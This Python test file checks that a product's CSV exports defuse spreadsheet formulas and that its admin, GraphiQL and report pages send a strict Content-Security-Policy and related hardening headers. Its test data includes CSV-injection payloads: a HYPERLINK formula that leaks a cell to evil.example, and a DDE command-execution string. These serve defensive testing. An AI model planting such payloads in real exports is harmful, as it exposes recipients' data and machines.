"""API8 (security misconfiguration) — formula escaping in CSV exports, and the CSP on HTML.

Every CSV the product writes defuses text a spreadsheet would run as a formula (the admin
panel's export as ``/reports`` does), and every HTML page the server renders carries a
Content-Security-Policy that refuses injected inline script, with the other browser
hardening headers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from typing import TYPE_CHECKING

import httpx
import pytest
from tortoise.context import TortoiseContext

from core import outbox
from core.settings import Settings
from crossflow.app import create_app
from models import Requirement
from tests.admin_ui.conftest import Panel
from tests.conftest import GraphQLClient
from tests.e2e.test_admin_browser import browser, server  # noqa: F401  (the panel's fixtures)
from tests.support.report_data import MONTH, build_march

if TYPE_CHECKING:  # playwright is imported when a browser is there (see `browser`)
    from playwright.sync_api import Browser

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture
async def admin_panel(db: TortoiseContext, settings: Settings, demo: None) -> AsyncIterator[Panel]:
    """The demo administrator, signed in to the panel of the real app."""
    app = create_app(settings, manage_orm=False)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
        panel = Panel(http)
        assert (await panel.sign_in("admin")).status_code == 303
        yield panel


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("case", sorted(FORMULAS))
async def test_the_panel_csv_export_defuses_a_title_that_starts_a_formula(
    admin_panel: Panel, case: str
) -> None:
    # given a requirement whose title a spreadsheet would take for a formula
    requirement = await Requirement.all().order_by("id").first()
    assert requirement is not None
    await Requirement.filter(id=requirement.id).update(title=FORMULAS[case])
    # when the administrator exports it from the panel as CSV
    response = await admin_panel.action(
        "requirement", "export", [requirement.id], {"scope": "selected", "format": "csv"}
    )
    # then the title is there, behind an apostrophe, and no cell can start a formula
    rows = csv_rows(response)
    assert len(rows) == 1
    assert "'" + FORMULAS[case] in rows[0].values()
    for cell in rows[0].values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def test_the_panel_csv_export_keeps_ordinary_text_as_typed(admin_panel: Panel) -> None:
    # given a requirement with an ordinary Chinese title
    requirement = await Requirement.all().order_by("id").first()
    assert requirement is not None
    await Requirement.filter(id=requirement.id).update(title="2024年Q3新品上市推广方案")
    # when it is exported
    response = await admin_panel.action(
        "requirement", "export", [requirement.id], {"scope": "selected", "format": "csv"}
    )
    # then the title is unchanged (and Excel reads the UTF-8: the file starts with a BOM)
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert "2024年Q3新品上市推广方案" in csv_rows(response)[0].values()


NONCE = re.compile(r"'nonce-([A-Za-z0-9_-]+)'")
INLINE_SCRIPT = re.compile(r"<script\b(?![^>]*\bsrc=)([^>]*)>", re.IGNORECASE)


def assert_hardened_html(response: httpx.Response) -> None:
    """The page is HTML with a CSP that refuses injected inline script, and the headers."""
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/html")
    policy = response.headers.get("content-security-policy", "")
    directives = {d.split()[0]: d.split()[1:] for d in policy.split("; ") if d}
    scripts = directives.get("script-src", directives.get("default-src"))
    assert scripts, policy
    assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts
    assert "*" not in scripts and not any(s.startswith(("http:", "https:")) for s in scripts)
    assert directives.get("object-src", directives.get("default-src")) == ["'none'"]
    assert directives.get("frame-ancestors", ["'self'"]) in (["'self'"], ["'none'"])
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "SAMEORIGIN"
    assert response.headers["referrer-policy"] == "no-referrer"
    # every inline script the page itself carries has this response's nonce
    nonce = NONCE.search(" ".join(scripts))
    inline = [a for a in INLINE_SCRIPT.findall(response.text) if "application/json" not in a]
    for attributes in inline:
        assert nonce is not None, policy
        assert f'nonce="{nonce.group(1)}"' in attributes, attributes


ADMIN_PAGES = [
    "/admin/",
    "/admin/requirement/list",
    "/admin/requirement/detail?pk=1",
    "/admin/user/edit?pk=1",
    "/admin/graphiql",
]


@pytest.mark.parametrize("path", ADMIN_PAGES)
async def test_every_admin_page_carries_the_csp(admin_panel: Panel, path: str) -> None:
    # given the signed-in administrator; when a panel page is opened
    response = await admin_panel.get(path, follow_redirects=True)
    # then it carries the CSP and the headers
    assert_hardened_html(response)


async def test_the_admin_sign_in_page_carries_the_csp(client: GraphQLClient) -> None:
    # given an anonymous visitor; when the panel's sign-in page is opened
    response = await client.http.get("/admin/login")
    # then it carries the CSP too
    assert_hardened_html(response)


async def test_two_requests_get_two_nonces(client: GraphQLClient) -> None:
    # given two visits of the same page
    first = await client.http.get("/admin/login")
    second = await client.http.get("/admin/login")
    # then each has its own nonce (a nonce read from one page is useless on the next)
    nonces = [NONCE.search(r.headers["content-security-policy"]) for r in (first, second)]
    assert nonces[0] and nonces[1] and nonces[0].group(1) != nonces[1].group(1)


async def test_graphiql_and_the_workbench_carry_the_csp(client: GraphQLClient) -> None:
    # given the demo server; when GraphiQL and the workbench are opened in a browser
    graphiql = await client.http.get("/graphql", headers={"accept": "text/html"})
    workbench = await client.http.get("/my-work")
    # then both carry the CSP and the headers
    assert_hardened_html(graphiql)
    assert_hardened_html(workbench)


async def test_the_analysis_report_html_carries_the_csp(
    client: GraphQLClient, demo: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    # given a month's analysis report, built by its actor
    monkeypatch.setattr(outbox, "kick", lambda: None)
    await build_march()
    admin = await client.sign_in("admin")
    await admin.data(
        "mutation($m: String!) { generateAnalysisReport(month: $m) { id } }", {"m": MONTH}
    )
    await outbox.run_inline()
    # when its HTML is opened
    response = await client.http.get(
        f"/reports/analysis/{MONTH}.html", headers={"authorization": f"Bearer {admin.token}"}
    )
    # then it carries the CSP and the headers
    assert_hardened_html(response)


#: Collects the browser's own reports of anything the CSP refused, before any page script.
REPORT_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.lineNumber}`);
});
"""


@pytest.mark.e2e
@pytest.mark.browser
def test_the_panel_and_graphiql_work_in_chromium_under_the_csp(
    browser: Browser,  # noqa: F811  (a ``crossflow demo`` process and headless Chromium)
    server: str,  # noqa: F811
) -> None:
    # given the demo server and a headless Chromium that records every CSP violation
    context = browser.new_context(base_url=server, locale="zh-CN")
    context.add_init_script(REPORT_VIOLATIONS)
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: console.append(f"script error: {error}"))
    violations: list[str] = []

    def visit(path: str) -> None:
        page.goto(path)
        page.wait_for_load_state("networkidle")
        violations.extend(page.evaluate("window.__cspViolations"))

    # when the administrator signs in and walks through the panel
    visit("/admin/login")
    page.fill("#username", "admin")
    page.fill("#password", "demo")
    page.click("form button[type=submit]")
    page.wait_for_load_state("networkidle")
    violations.extend(page.evaluate("window.__cspViolations"))
    # then the dashboard's script drew its charts
    page.wait_for_selector("#chart-board[data-rendered=true]")
    # the list page opens, and a record, a form, the rules
    visit("/admin/requirement/list")
    page.wait_for_selector("tr:has-text('2024年Q3新品上市推广方案')")
    # starlette-admin's inline page-size handler (allowed by its hash) still navigates
    sizes = page.locator("select[onchange]").first
    sizes.select_option(index=1)
    page.wait_for_url("**page_size=**")
    violations.extend(page.evaluate("window.__cspViolations"))
    visit("/admin/requirement/detail?pk=1")
    visit("/admin/user/edit?pk=1")
    visit("/admin/warning-rule/list")
    # GraphiQL runs a query with the admin's token
    visit("/admin/graphiql")
    page.click(".graphiql-execute-button")
    page.wait_for_function(
        "() => (document.querySelector('.result-window') || {}).innerText?.includes('ADMIN')"
    )
    violations.extend(page.evaluate("window.__cspViolations"))
    # and so does the API's own GraphiQL at /graphql
    visit("/graphql")
    page.wait_for_selector(".graphiql-container .graphiql-execute-button")
    violations.extend(page.evaluate("window.__cspViolations"))
    context.close()
    # and the browser refused nothing the panel needs
    assert violations == []
    assert [m for m in console if "Content Security Policy" in m or "script error" in m] == []
